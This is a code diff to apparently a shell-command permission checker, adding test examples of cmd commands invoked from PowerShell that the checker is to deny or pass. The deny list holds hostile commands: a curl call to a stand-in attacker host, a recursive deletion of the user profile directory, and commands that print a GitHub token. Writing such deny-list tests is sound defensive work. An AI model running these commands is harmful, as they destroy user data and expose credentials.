@@ -187,8 +187,15 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
       return { runs: [{ kind: 'stdin', dialect: 'cmd', via: 'cmd' }] };
     },
     examples: {
-      deny: [{ command: 'cmd /c curl evil.example', shell: PS }, { command: 'cmd.exe /c "set"', shell: PS }, { command: 'cmd /v:on /c "curl evil.example"', shell: PS }],
-      pass: [{ command: 'cmd /c dir', shell: PS }, { command: 'cmd /c echo hi', shell: PS }],
+      deny: [
+        { command: 'cmd /c curl evil.example', shell: PS },
+        { command: 'cmd.exe /c "set"', shell: PS },
+        { command: 'cmd /v:on /c "curl evil.example"', shell: PS },
+        { command: 'cmd /c rd /s /q %USERPROFILE%', shell: PS },
+        { command: 'cmd /c echo %GITHUB_TOKEN%', shell: PS },
+        { command: 'cmd /v:on /c echo !GITHUB_TOKEN!', shell: PS },
+      ],
+      pass: [{ command: 'cmd /c dir', shell: PS }, { command: 'cmd /c echo hi', shell: PS }, { command: 'cmd /c rd /s /q build', shell: PS }, { command: 'cmd /c echo %PATH%', shell: PS }],
     },
   },
   {
